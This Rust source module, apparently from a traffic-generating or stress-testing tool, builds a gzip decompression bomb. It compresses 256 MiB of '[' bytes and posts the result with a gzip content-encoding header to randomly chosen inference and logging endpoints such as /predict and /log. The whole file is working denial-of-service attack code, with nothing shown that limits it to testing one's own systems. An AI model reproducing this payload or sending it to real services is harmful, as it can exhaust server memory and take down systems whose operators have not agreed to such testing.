//! Small bodies that are packed from large ones.

use std::io::{self, Write as _};
use std::sync::OnceLock;

use fastrand::Rng;
use flate2::Compression;
use flate2::write::GzEncoder;

use crate::aim::{Aim, post};

const UNPACKED: usize = 256 << 20;
const PART: usize = 1 << 20;

pub(crate) async fn strike(aim: &Aim, random: &mut Rng) -> io::Result<()> {
    let targets = [
        (aim.inference, "/predict", "application/json"),
        (aim.inference, "/predict", "image/png"),
        (aim.logging, "/log", "application/x-ndjson"),
        (aim.logging, "/feedback", "application/json"),
        (aim.logging, "/cloudevents", "application/cloudevents+json"),
    ];
    let (to, path, content_type) = targets[random.usize(..targets.len())];
    aim.send(to, &post(path, content_type, "content-encoding: gzip\r\n", bomb()), random).await
}

fn bomb() -> &'static [u8] {
    static BOMB: OnceLock<Vec<u8>> = OnceLock::new();
    BOMB.get_or_init(|| {
        let mut encoder = GzEncoder::new(Vec::new(), Compression::best());
        (0..UNPACKED / PART).for_each(|_| encoder.write_all(&vec![b'['; PART]).expect("a buffer takes it"));
        encoder.finish().expect("a buffer takes it")
    })
}
